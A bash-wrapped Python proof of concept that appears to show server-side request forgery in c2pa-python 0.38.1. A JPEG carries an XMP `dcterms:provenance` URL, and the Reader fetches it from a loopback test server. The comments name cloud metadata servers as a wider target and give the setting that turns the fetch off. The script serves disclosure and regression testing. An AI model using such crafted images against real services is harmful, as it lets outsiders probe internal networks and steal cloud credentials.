#!/usr/bin/env bash
# c2pa-python 0.38.1 fetches an address that stands inside the picture it is given.
#
# XMP may name a manifest that lies elsewhere (`dcterms:provenance`). `Reader` asks for it at once, by its own HTTP client, with
# no look at where it leads: here to a service on loopback, in a cloud to the metadata server as well.
# Why it matters: whoever reads pictures of strangers with it lets them choose what is asked for inside of the network.
# `{"verify": {"remote_manifest_fetch": false}}` in a `Context` turns it off; what then remains is an error that names the address.
# Exits with an error when that has changed.
set -euo pipefail
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
python3 -m venv "$work/venv"
"$work/venv/bin/pip" install --quiet c2pa-python==0.38.1 pillow==13.0.0

"$work/venv/bin/python" - <<'PYTHON'
import http.server
import io
import sys
import threading

import c2pa
from PIL import Image

asked: list[str] = []


class Service(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        asked.append(self.path)
        self.send_error(404)

    def log_message(self, *_: object) -> None:
        pass


server = http.server.HTTPServer(("127.0.0.1", 0), Service)
threading.Thread(target=server.serve_forever, daemon=True).start()
address = f"http://127.0.0.1:{server.server_port}/inside"
packet = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    f'<rdf:Description xmlns:dcterms="http://purl.org/dc/terms/" dcterms:provenance="{address}"/></rdf:RDF></x:xmpmeta>'
)
picture = io.BytesIO()
Image.new("RGB", (8, 8)).save(picture, "JPEG", xmp=packet.encode())
seen = {}
for name, settings in (("default", {}), ("off", {"verify": {"remote_manifest_fetch": False}})):
    asked.clear()
    try:
        c2pa.Reader("image/jpeg", io.BytesIO(picture.getvalue()), context=c2pa.Context.from_dict(settings))
    except c2pa.C2paError as error:
        print(f"{name}: {error}")
    seen[name] = len(asked)
print(f"requests to the address in the file: {seen}")
sys.exit(0 if seen["default"] and not seen["off"] else "c2pa-python no longer asks for it")
PYTHON
